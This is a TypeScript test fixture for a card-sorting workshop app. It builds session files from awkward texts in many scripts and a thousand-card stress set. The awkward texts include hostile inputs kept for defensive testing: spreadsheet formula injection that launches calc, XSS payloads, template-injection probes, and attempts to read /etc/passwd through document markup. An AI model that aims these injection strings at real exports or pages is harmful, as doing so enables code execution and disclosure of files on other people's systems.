import type { Board } from "@bocal/protocol/board/board";
import { tidied } from "@bocal/protocol/board/geometry";
import { named } from "../../help/people.ts";

// Sessions as files, with what people really write and what ill-willed people write. Loaded through the door they are tidied
// as the rules say; what is left must come out of every format inert, whole and legible.

export const awkwardTexts = {
  formulas: [
    '=HYPERLINK("http://ailleurs.example/?"&A1;"cliquez")',
    "+33 6 12 34 56 78",
    "-2 agents à l’accueil",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "=1+1;\"a\";'b'",
  ],
  markup: [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</text></svg><script>alert(1)</script>",
    "]]> <!-- & &amp; &lt; &#x41; -->",
    '#read("/etc/passwd") $x^2$ *gras* _it_ `code` @ref <label>',
    "[lien](javascript:alert(1)) ![image](http://ailleurs.example/x.png)",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it must stay as it is
    "{{7*7}} ${7*7} %s %n \\u0041 \\input{x}",
    "BEGIN:VEVENT\nSUMMARY:faux\nEND:VEVENT",
  ],
  alphabets: [
    "Été, œuvre, « naïf » ; 1 234 € – ÿ Ÿ",
    "Дмитрий Ильин и Олена Ґалаґан",
    "Ελένη Παπαδοπούλου",
    "שרה כהן",
    "محمد الأمين يوسف",
    "Նարեկ Սարգսյան",
    "ნინო ბერიძე",
    "नरेन्द्र देवी",
    "สมชาย ใจดี",
    "王小明 田中さくら 김민준",
    "አበበ ቢቂላ",
    "Nguyễn Thị Ánh",
  ],
  signs: [
    "😀 👩‍👩‍👧‍👦 🇫🇷 👍🏽 ❤️ 1️⃣",
    "é ñ (lettres et accents séparés)",
    "Z̷͚̈a̶l̶g̶o",
    "✔ ☐ → ★ ≤ ≥ ½ ²",
    `${"mot-sans-fin".repeat(12).slice(0, 140)}`,
    "https://exemple.example/une/adresse/sans/espace?avec=des&choses=dedans#et-une-fin-tout-aussi-longue-que-possible",
    "deux\nlignes",
  ],
} as const;

export const everyAwkwardText: readonly string[] = Object.values(awkwardTexts).flat();

interface FileWith {
  readonly title?: string;
  readonly texts: readonly string[];
  /** How many of the texts stand in each cluster; the others stand alone. */
  readonly clusters?: readonly { readonly title: string; readonly count: number }[];
  readonly anonymity?: "nominative" | "organisation" | "anonymous";
  readonly organisations?: readonly string[];
}

/** A session file whose one activity has shown these cards. */
export function fileWith({
  title = "Séance",
  texts,
  clusters = [],
  anonymity = "organisation",
  organisations = ["Caisse", "Ville"],
}: FileWith) {
  const shown = organisations.map((name, index) => ({
    id: named<"organisation">(`o${index + 1}`),
    name,
    short: [...name].slice(0, 12).join(""),
    letter: [...name][0] ?? "X",
    mark: ((index % 8) + 1) as 1,
  }));
  const clusterOf = clusters.flatMap(({ count }, index) =>
    Array.from({ length: count }, () => `cluster${index + 1}`),
  );
  const file = {
    format: "bocal-session",
    version: 1,
    takenAt: Date.UTC(2026, 2, 2, 9),
    session: {
      title,
      host: title,
      organisations: shown,
      groups: [{ id: "g1", name: title }],
      anonymity,
      identification: "name",
      expected: 20,
      ended: false,
    },
    people: [],
    activities: [
      {
        id: "activity1",
        title,
        plannedMinutes: 20,
        spans: [{ from: Date.UTC(2026, 2, 2, 8), to: null }],
        content: {
          method: "metaplan",
          portable: {
            settings: {
              question: title,
              colours: "one",
              legend: [{ paper: "straw", label: title }],
              appears: "together",
            },
            phase: "grouping",
            quota: 20,
            hiddenCards: 0,
            cards: texts.map((text, index) => ({
              id: `card${index}`,
              origin: `card${index}`,
              text,
              original: null,
              shape: "idea",
              paper: ["straw", "sky", "coral", "linden", "lilac", "chalk"][index % 6],
              organisation: anonymity === "anonymous" ? null : (shown[index % shown.length]?.id ?? null),
              author: null,
              x: 40 + (index % 4) * 460,
              y: 28 + Math.floor(index / 4) * 192,
              cluster: clusterOf[index] ?? null,
              order: index,
              pile: null,
              parked: null,
            })),
            clusters: clusters.map(({ title: name }, index) => ({
              id: `cluster${index + 1}`,
              number: index + 1,
              title: name,
              x: 40 + (index % 2) * 900,
              y: 60 + index * 500,
            })),
          },
        },
      },
    ],
  }; // As "Ranger" would place them, so that nothing lies on anything.
  const { cards, clusters: contours } = file.activities[0]?.content.portable ?? { cards: [], clusters: [] };
  const byId = (all: readonly { readonly id: string }[]) =>
    Object.fromEntries(all.map((each) => [each.id, each]));
  const placed = tidied({ cards: byId(cards), clusters: byId(contours) } as unknown as Board);
  for (const { id, x, y } of placed.cards)
    Object.assign(cards.find((card) => card.id === id) ?? {}, { x, y });
  for (const { id, x, y } of placed.clusters)
    Object.assign(contours.find((each) => each.id === id) ?? {}, { x, y });
  return file;
}

/** A thousand different cards in forty clusters: more than a room sorts in a day. */
export function thousandCards() {
  const words =
    "accueil famille horaires écoute transport jeunes parents lieu partage papier numérique voisins".split(
      " ",
    );
  const texts = Array.from(
    { length: 1_000 },
    (_, index) =>
      `${words[index % 12]} ${words[(index * 5 + 3) % 12]} ${words[(index * 7 + 1) % 12]} n° ${index + 1}`,
  );
  const clusters = Array.from({ length: 40 }, (_, index) => ({
    title: `Nuage numéro ${index + 1}`,
    count: 24,
  }));
  return fileWith({ title: "Mille cartes", texts, clusters });
}
